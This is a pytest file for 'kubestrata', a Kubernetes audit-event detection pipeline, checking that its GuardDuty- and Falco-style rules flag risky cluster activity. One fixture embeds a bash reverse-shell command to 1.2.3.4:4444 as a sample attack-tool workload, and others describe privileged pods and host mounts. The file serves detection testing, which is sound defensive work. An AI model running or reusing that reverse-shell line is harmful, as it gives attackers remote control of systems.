"""Rule behaviour beyond the upstream fixtures: GuardDuty types, lists, anomalies, thresholds."""

from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from kubestrata.detect.catalogue import CATALOGUE, GD_TACTICS
from kubestrata.detect.event import AuditEvent
from kubestrata.detect.pipeline import DetectConfig, IPList, IPLists, Pipeline
from kubestrata.detect.rules import DETECTORS, tactic_of
from kubestrata.errors import KubestrataError
from tests.detect.helpers import event, pod, rule_ids


def run(*evs, config: DetectConfig | None = None) -> set[str]:
    pipe = Pipeline(config or DetectConfig())
    out: set[str] = set()
    for e in evs:
        out |= rule_ids(pipe.process_obj(e))
    return out


def test_catalogue_is_complete_and_every_id_has_logic() -> None:
    produced = {i for d in DETECTORS for i in d.ids}
    assert produced == set(CATALOGUE)
    gd = {t for r in CATALOGUE.values() for t in r.guardduty}
    assert len([t for t in gd if ":Kubernetes/" in t]) == 7 + 20 + 8  # reference §1.1 A + B + C
    for r in CATALOGUE.values():
        assert r.title and r.description and r.mitre, r.id


def test_every_falco_k8saudit_rule_has_a_counterpart() -> None:
    falco = {n for r in CATALOGUE.values() for n in r.falco}
    expected = {
        "Disallowed K8s User", "Create Disallowed Pod", "Create Privileged Pod", "Create Sensitive Mount Pod",
        "Create HostNetwork Pod", "Create HostPid Pod", "Create HostIPC Pod", "Create NodePort Service",
        "Create/Modify Configmap With Private Credentials", "Anonymous Request Allowed", "Attach/Exec Pod",
        "port-forward", "EphemeralContainers Created", "Create Disallowed Namespace", "Pod Created in Kube Namespace",
        "Service Account Created in Kube Namespace", "System ClusterRole Modified/Deleted", "Attach to cluster-admin Role",
        "ClusterRole With Wildcard Created", "ClusterRole With Write Privileges Created", "ClusterRole With Pod Exec Created",
        "K8s Secret Get Successfully", "K8s Secret Get Unsuccessfully Tried", "Full K8s Administrative Access",
        "Ingress Object without TLS Certificate Created", "Untrusted Node Successfully Joined the Cluster",
        "Untrusted Node Unsuccessfully Tried to Join the Cluster",
    }  # fmt: skip
    for what in ("Deployment", "Service", "ConfigMap", "Namespace", "Serviceaccount", "Role", "ClusterRole",
                 "RoleBinding", "ClusterRoleBinding", "Secret"):  # fmt: skip
        expected |= {f"K8s {what} Created", f"K8s {what} Deleted"}
    assert expected <= falco, sorted(expected - falco)


def test_exec_in_kube_system() -> None:
    ex = dict(subresource="exec", name="coredns-1", stage="ResponseStarted", code=101)
    assert "KS-AUD-G01" in run(event("create", "pods", namespace="kube-system", **ex))
    assert "KS-AUD-G01" not in run(event("create", "pods", namespace="default", **ex))


def test_anonymous_access_granted_and_default_sa_admin() -> None:
    rb = {"kind": "ClusterRoleBinding", "roleRef": {"kind": "ClusterRole", "name": "view"},
          "subjects": [{"kind": "User", "name": "system:anonymous"}]}  # fmt: skip
    assert "KS-AUD-G02" in run(
        event("create", "clusterrolebindings", namespace=None, code=201, request_object=rb)
    )
    assert "KS-AUD-G02" not in run(
        event("create", "clusterrolebindings", namespace=None, code=403, request_object=rb)
    )
    sa = {"kind": "RoleBinding", "roleRef": {"kind": "ClusterRole", "name": "admin"},
          "subjects": [{"kind": "ServiceAccount", "name": "default", "namespace": "web"}]}  # fmt: skip
    assert "KS-AUD-G03" in run(event("create", "rolebindings", namespace="web", code=201, request_object=sa))
    sa["roleRef"]["name"] = "view"
    assert "KS-AUD-G03" not in run(
        event("create", "rolebindings", namespace="web", code=201, request_object=sa)
    )


def test_exposed_dashboards() -> None:
    svc = {"kind": "Service", "metadata": {"name": "kubernetes-dashboard"},
           "spec": {"type": "LoadBalancer", "selector": {"k8s-app": "kubernetes-dashboard"}}}  # fmt: skip
    kw = dict(namespace="kubernetes-dashboard", name="kubernetes-dashboard", code=201)
    assert "KS-AUD-G04" in run(event("create", "services", request_object=svc, **kw))
    internal = {**svc, "metadata": {"name": "kubernetes-dashboard",
                                     "annotations": {"service.beta.kubernetes.io/aws-load-balancer-scheme": "internal"}}}  # fmt: skip
    assert "KS-AUD-G04" not in run(event("create", "services", request_object=internal, **kw))
    kf = {"kind": "Service", "metadata": {"name": "centraldashboard"}, "spec": {"type": "LoadBalancer"}}
    assert "KS-AUD-G05" in run(
        event(
            "create", "services", namespace="kubeflow", name="centraldashboard", code=201, request_object=kf
        )
    )


def test_privileged_image_first_seen_and_sensitive_mount() -> None:
    def mk(img):
        return event(
            "create",
            "pods",
            code=201,
            request_object=pod([{"name": "c", "image": img, "securityContext": {"privileged": True}}]),
        )  # noqa: E731

    pipe = Pipeline()
    assert "KS-AUD-G06" in rule_ids(pipe.process_obj(mk("evil:1")))
    assert "KS-AUD-G06" not in rule_ids(pipe.process_obj(mk("evil:1")))
    assert "KS-AUD-G06" in rule_ids(pipe.process_obj(mk("other:2")))
    vol = pod([{"name": "c", "image": "x", "volumeMounts": [{"name": "h", "mountPath": "/host"}]}],
              volumes=[{"name": "h", "hostPath": {"path": "/etc"}}])  # fmt: skip
    assert "KS-AUD-G07" in run(event("create", "pods", code=201, request_object=vol))
    vol["spec"]["containers"][0]["volumeMounts"][0]["readOnly"] = True
    assert "KS-AUD-G07" not in run(event("create", "pods", code=201, request_object=vol))


def test_tactic_map() -> None:
    t = lambda **kw: tactic_of(AuditEvent(event(**kw)))  # noqa: E731
    assert t(verb="list", resource="secrets") == "CredentialAccess"
    assert t(verb="delete", resource="events") == "DefenseEvasion"
    assert t(verb="list", resource="pods") == "Discovery"
    assert t(verb="delete", resource="deployments") == "Impact"
    assert t(verb="create", resource="clusterrolebindings") == "Persistence"
    assert set(GD_TACTICS) == {"CredentialAccess", "DefenseEvasion", "Discovery", "Impact", "Persistence"}


def test_ip_lists_drive_tactic_x_source(tmp_path) -> None:
    tor = tmp_path / "tor.txt"
    tor.write_text("# Tor exits\n198.51.100.7\n")
    custom = tmp_path / "custom.txt"
    custom.write_text("203.0.113.0/24\n")
    mal = tmp_path / "mal.txt"
    mal.write_text("192.0.2.66\n")
    lists = IPLists(
        malicious=IPList.load(str(mal)), custom=IPList.load(str(custom)), tor=IPList.load(str(tor))
    )
    cfg = DetectConfig(ip_lists=lists)
    assert "KS-AUD-G12" in run(
        event("list", "secrets", ips=["198.51.100.7"]), config=cfg
    )  # CredentialAccess/Tor
    assert "KS-AUD-G19" in run(event("list", "pods", ips=["203.0.113.9"]), config=cfg)  # Discovery/Custom
    assert "KS-AUD-G22" in run(
        event("delete", "deployments", ips=["192.0.2.66"]), config=cfg
    )  # Impact/Malicious
    # MaliciousIPCaller is not raised for unauthenticated calls (SuccessfulAnonymousAccess is)
    anon = run(event("list", "secrets", ips=["192.0.2.66"], user="system:anonymous"), config=cfg)
    assert "KS-AUD-G10" not in anon and "KS-AUD-G13" in anon
    assert not {
        r for r in run(event("list", "pods", ips=["10.1.1.1"]), config=cfg) if r.startswith("KS-AUD-G1")
    }


def test_successful_anonymous_discovery_excludes_health_and_version() -> None:
    for path in ("/healthz", "/livez", "/readyz", "/version"):
        ev = event("get", "pods", user="system:anonymous", uri=path, objectRef=None)
        assert "KS-AUD-G21" not in run(ev), path
    assert "KS-AUD-G21" in run(event("get", "pods", user="system:anonymous", uri="/api", objectRef=None))
    assert "KS-AUD-G29" in run(
        event("create", "clusterrolebindings", user="system:anonymous", code=201)
    )  # Persistence high
    assert (
        CATALOGUE["KS-AUD-G29"].severity.value == "high"
        and CATALOGUE["KS-AUD-G28"].severity.value == "medium"
    )


def test_bad_ip_list_is_a_clear_error(tmp_path) -> None:
    p = tmp_path / "l.txt"
    p.write_text("1.2.3.4\nnot-an-ip\n")
    with pytest.raises(KubestrataError, match="l.txt:2"):
        IPList.load(str(p))


def test_anomalous_binding_severity_and_permission_check() -> None:
    rb = {
        "kind": "ClusterRoleBinding",
        "roleRef": {"name": "cluster-admin"},
        "subjects": [{"kind": "User", "name": "x"}],
    }
    pipe = Pipeline()
    f = [x for x in pipe.process_obj(event("create", "clusterrolebindings", namespace=None, code=201, request_object=rb))
         if x.rule_id == "KS-AUD-G41"]  # fmt: skip
    assert f and f[0].severity == "high"
    ssar = {"spec": {"resourceAttributes": {"verb": "create", "resource": "pods", "subresource": "exec"}}}
    resp = {"status": {"allowed": True}}
    assert "KS-AUD-G47" in run(
        event(
            "create",
            "selfsubjectaccessreviews",
            namespace=None,
            code=201,
            request_object=ssar,
            response_object=resp,
        )
    )
    assert "KS-AUD-G47" not in run(event("create", "selfsubjectaccessreviews", namespace=None, code=201, request_object=ssar,
                                         response_object={"status": {"allowed": False}}))  # fmt: skip


def test_workload_deployed_medium_for_attack_tools() -> None:
    dep = {"kind": "Deployment", "spec": {"template": {"spec": {"containers": [
        {"name": "c", "image": "kalilinux/kali-rolling", "command": ["bash", "-c", "bash -i >& /dev/tcp/1.2.3.4/4444 0>&1"]}]}}}}  # fmt: skip
    f = [
        x
        for x in Pipeline().process_obj(event("create", "deployments", code=201, request_object=dep))
        if x.rule_id == "KS-AUD-G45"
    ]
    assert f and f[0].severity == "medium"


def test_threshold_rules_fire_once_per_burst() -> None:
    pipe = Pipeline(DetectConfig(thresholds={"KS-AUD-N14": 3}))
    fired = []
    for i in range(7):
        fired.append("KS-AUD-N14" in rule_ids(pipe.process_obj(event("get", "secrets", name=f"s{i}"))))
    assert fired == [False, False, True, False, False, True, False]


def test_falco_silent_rules_enabled_by_configuration() -> None:
    ev = event(
        "create", "pods", code=201, request_object=pod([{"name": "c", "image": "nginx:1"}]), user="admin"
    )
    assert not {"KS-AUD-F02", "KS-AUD-F52"} & run(ev)
    cfg = DetectConfig(allowed_images=frozenset({"apache"}), full_admin_users=frozenset({"admin"}))
    assert {"KS-AUD-F02", "KS-AUD-F52"} <= run(
        event(
            "create", "pods", code=201, request_object=pod([{"name": "c", "image": "nginx:1"}]), user="admin"
        ),
        config=cfg,
    )


def test_configmap_credentials_and_port_forward_every_stage() -> None:
    cm = {"kind": "ConfigMap", "data": {"db": "user=a password=b"}}
    assert "KS-AUD-F09" in run(event("update", "configmaps", request_object=cm))
    pipe = Pipeline()
    pf = event("create", "pods", subresource="portforward", name="p", stage="ResponseStarted", code=101)
    n = sum(f.rule_id == "KS-AUD-F12" for f in pipe.process_obj(pf))
    n += sum(f.rule_id == "KS-AUD-F12" for f in pipe.process_obj(dict(pf, stage="ResponseComplete")))
    assert (
        n == 2 or pipe.stats.suppressed == 1
    )  # Falco's rule has no stage filter; our dedup window folds the repeat


def test_disable_and_only() -> None:
    ev = event("delete", "secrets", name="s")
    assert "KS-AUD-F49" not in run(ev, config=DetectConfig(disabled=frozenset({"KS-AUD-F49"})))
    assert run(event("delete", "secrets", name="s"), config=DetectConfig(only=frozenset({"KS-AUD-F49"}))) == {
        "KS-AUD-F49"
    }


def test_bulk_secret_access_counts_distinct_secrets_only() -> None:
    pipe = Pipeline(DetectConfig(thresholds={"KS-AUD-N14": 3}))
    fired = [rule_ids(pipe.process_obj(event("get", "secrets", name="same"))) for _ in range(50)]
    assert not any("KS-AUD-N14" in f for f in fired)
    w = pipe._windows[("KS-AUD-N14", "alice@example.com")]
    assert len(w.distinct) == 1 and not w.items  # bounded: one entry, however many reads


_OCTET = st.integers(0, 255).map(str) | st.sampled_from(["01", "256", "", "-1", " 1", "1 "])


@settings(max_examples=1000, deadline=None)
@given(
    st.one_of(
        st.lists(_OCTET, min_size=3, max_size=5).map(".".join),
        st.ip_addresses().map(str),
        st.ip_addresses(v=6).map(lambda a: f"{a}%eth0"),
        st.text(alphabet=st.sampled_from(list("0123456789abcdef:.%/ ")), max_size=45),
    )
)
def test_source_network_is_ip_networks(addr: str) -> None:
    """anomaly._source_network's IPv4 /24 from the dotted quad names what ip_network does."""
    import ipaddress

    from kubestrata.detect.rules import anomaly

    anomaly._net_cache.pop(addr, None)
    try:
        ip = ipaddress.ip_address(addr)
    except ValueError:
        want = None
    else:
        net = ipaddress.ip_network(f"{ip}/{24 if ip.version == 4 else 64}", strict=False)
        want = (str(net), ip.is_global)
    assert anomaly._source_network(addr) == want
    assert anomaly._source_network(addr) == want  # (remembered)
